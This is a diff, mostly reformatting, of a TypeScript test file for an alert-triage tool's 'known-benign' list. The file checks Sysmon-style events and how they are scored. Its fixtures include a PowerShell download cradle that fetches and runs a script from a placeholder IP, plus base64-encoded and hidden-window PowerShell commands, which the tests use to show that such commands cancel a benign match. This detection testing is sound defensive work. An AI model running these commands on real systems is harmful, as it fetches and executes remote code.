@@ -65,7 +65,7 @@ describe('known-benign: the bundled list', () => {
 
   it('a download cradle, an encoded or hidden command voids the pattern', async () => {
     const cradles = [
-      "powershell.exe -ExecutionPolicy Bypass -Command \"IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.7/a.ps1')\"",
+      'powershell.exe -ExecutionPolicy Bypass -Command "IEX (New-Object Net.WebClient).DownloadString(\'http://203.0.113.7/a.ps1\')"',
       'powershell.exe -NoP -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA',
       'powershell.exe -EncodedCommand SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIA==',
       'powershell.exe -w hidden -File C:\\Windows\\CCM\\SystemTemp\\x.ps1',
@@ -103,7 +103,8 @@ describe('known-benign: the bundled list', () => {
       {
         host: 'ws-102',
         image: 'C:\\Users\\k.sato\\AppData\\Local\\Google\\Update\\GoogleUpdate.exe',
-        commandLine: '"C:\\Users\\k.sato\\AppData\\Local\\Google\\Update\\GoogleUpdate.exe" /ua /installsource scheduler',
+        commandLine:
+          '"C:\\Users\\k.sato\\AppData\\Local\\Google\\Update\\GoogleUpdate.exe" /ua /installsource scheduler',
         parentImage: 'C:\\Windows\\System32\\svchost.exe',
         user: 'CORP\\k.sato',
       },
@@ -156,14 +157,19 @@ describe('known-benign: the bundled list', () => {
           host: 'srv-app07',
           image: 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe',
           parentImage,
-          commandLine: 'powershell.exe -File C:\\Program Files\\Microsoft Monitoring Agent\\Agent\\Health Service State\\x.ps1',
+          commandLine:
+            'powershell.exe -File C:\\Program Files\\Microsoft Monitoring Agent\\Agent\\Health Service State\\x.ps1',
         },
         sigmaRule({ level: 'medium', tags: ['attack.execution'] }),
       );
-    assert.deepEqual(matched(bundled, mma('C:\\Program Files\\Microsoft Monitoring Agent\\Agent\\MonitoringHost.exe')), [
-      'microsoft-monitoring-agent',
-    ]);
-    assert.deepEqual(matched(bundled, mma('C:\\Users\\Public\\Microsoft Monitoring Agent\\Agent\\MonitoringHost.exe')), []);
+    assert.deepEqual(
+      matched(bundled, mma('C:\\Program Files\\Microsoft Monitoring Agent\\Agent\\MonitoringHost.exe')),
+      ['microsoft-monitoring-agent'],
+    );
+    assert.deepEqual(
+      matched(bundled, mma('C:\\Users\\Public\\Microsoft Monitoring Agent\\Agent\\MonitoringHost.exe')),
+      [],
+    );
   });
 
   it('Defender scanning LSASS is excused, but against a strong rule it is a conflict, not benign', async () => {
@@ -173,7 +179,8 @@ describe('known-benign: the bundled list', () => {
     );
     // a process-access event: the source image is the scanner
     const data = f.evidence[0]!.data as { Event: { EventData: Record<string, unknown> } };
-    data.Event.EventData.SourceImage = 'C:\\ProgramData\\Microsoft\\Windows Defender\\Platform\\4.18.24090.11-0\\MsMpEng.exe';
+    data.Event.EventData.SourceImage =
+      'C:\\ProgramData\\Microsoft\\Windows Defender\\Platform\\4.18.24090.11-0\\MsMpEng.exe';
     data.Event.EventData.TargetImage = 'C:\\Windows\\system32\\lsass.exe';
     assert.deepEqual(matched(bundled, f), ['defender-scans-processes']);
     const v = await analyst.judge(f, ctx());
@@ -202,7 +209,10 @@ describe('known-benign: the bundled list', () => {
     assert.deepEqual(matched(bundled, psexec('ws-jumper')), []);
     // 0.8 × 0.85 - 1.5
     assert.equal((await analyst.judge(psexec('adm-jump01'), ctx())).label, 'needs-human');
-    assert.match((await analyst.judge(psexec('adm-jump01'), ctx())).rationale, /admin-jump-host \(moderate\): Administration from a jump host -1\.5/);
+    assert.match(
+      (await analyst.judge(psexec('adm-jump01'), ctx())).rationale,
+      /admin-jump-host \(moderate\): Administration from a jump host -1\.5/,
+    );
   });
 
   it('a field the event lacks is not a match (fails closed)', () => {
@@ -222,9 +232,10 @@ describe('known-benign: the bundled list', () => {
   });
 
   it('tacticsOf skips technique, group and software tags', () => {
-    assert.deepEqual(tacticsOf(['attack.execution', 'attack.t1059.001', 'attack.g0016', 'attack.s0002', 'cve.2021-1']), [
-      'execution',
-    ]);
+    assert.deepEqual(
+      tacticsOf(['attack.execution', 'attack.t1059.001', 'attack.g0016', 'attack.s0002', 'cve.2021-1']),
+      ['execution'],
+    );
   });
 });
 
@@ -250,7 +261,10 @@ patterns:
     rules: [5af54681-df95-4c26-854f-2565e13cfab0]
 `;
   const backup = (parentImage: string, commandLine = 'robocopy C:\\data \\\\nas01\\backup /MIR') =>
-    sysmonDetection({ host: 'srv-fs01', image: 'C:\\Tools\\Backup\\robocopy.exe', parentImage, commandLine }, HIGH_EXEC);
+    sysmonDetection(
+      { host: 'srv-fs01', image: 'C:\\Tools\\Backup\\robocopy.exe', parentImage, commandLine },
+      HIGH_EXEC,
+    );
 
   it('strong patterns come first; strength sets the points', async () => {
     const p = parseKnownBenign(site, 'site.yaml');
@@ -268,7 +282,9 @@ patterns:
 
   it('unless (through an x- anchor) and rules scope apply', () => {
     const p = parseKnownBenign(site, 'site.yaml');
-    assert.deepEqual(matched(p, backup('C:\\Windows\\System32\\svchost.exe', 'robocopy -enc abc')), ['backup-moderate']);
+    assert.deepEqual(matched(p, backup('C:\\Windows\\System32\\svchost.exe', 'robocopy -enc abc')), [
+      'backup-moderate',
+    ]);
     const other = { ...backup('C:\\Windows\\System32\\svchost.exe'), rule: { ...HIGH_EXEC, id: 'another-rule' } };
     assert.deepEqual(matched(p, other), ['backup-moderate']);
   });
